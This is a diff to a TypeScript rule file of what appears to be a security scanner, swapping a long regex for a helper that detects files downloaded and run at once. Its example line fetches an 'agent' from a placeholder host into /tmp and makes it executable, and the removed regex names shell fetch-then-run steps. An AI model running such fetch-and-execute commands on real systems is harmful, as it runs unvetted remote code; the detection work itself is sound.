@@ -1,7 +1,7 @@
 /** Code from the network that is run unseen. */
 import type { Fact } from "../facts.ts";
 import { downloadsRun } from "../shell/downloads_run.ts";
-import { fetcher } from "./_pieces.ts";
+import { downloadsThenRun } from "./_find_downloads_run.ts";
 import { knownInstaller } from "./_installers.ts";
 import { onlyLookedFor, re, rulesOf, run, runOrTold } from "./rule_row.ts";
 
@@ -46,8 +46,7 @@ export const remoteExecution = rulesOf("remote-execution", {
     severity: "high",
     title: "A file is downloaded and run at once",
     on: runOrTold,
-    pattern:
-      re`(?:${fetcher}|\burlretrieve\b|\bdownloadfile\b)[^\n]{4,240}(?:&&|;|\n|\bthen\b)[^\n]{0,60}(?:\bchmod (?:\+x|[0-7]{0,1}7[0-7]{2}|a\+x|u\+x)|(?:^|[\s;&])(?:(?:ba|z)?sh|python3?|sudo|node|start-process|start|source|\.) (?:-\w{1,9} ){0,2}(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$env:temp|%temp%|[\w-]{1,40}\.(?:sh|py|js|exe|ps1|bat)\b|(?<=sh )[\w-]{1,40}(?=$|[\s;&|"']))|(?<=(?:^|[;&|\n]|\b(?:nohup|exec|setsid|run|then|sudo|start))\s{0,3}["'\x60]?)(?:\./|\.\\|/tmp/|/dev/shm/)[\w.-]{1,40})`,
+    read: downloadsThenRun,
     holds: (found, fact) => unknownSource(found, fact) && !isChecked(found[0]),
     example: "wget https://files.tool-box.example/agent -O /tmp/agent && chmod +x /tmp/agent",
     nearMiss: "wget https://files.tool-box.example/agent -O /tmp/agent && sha256sum /tmp/agent",
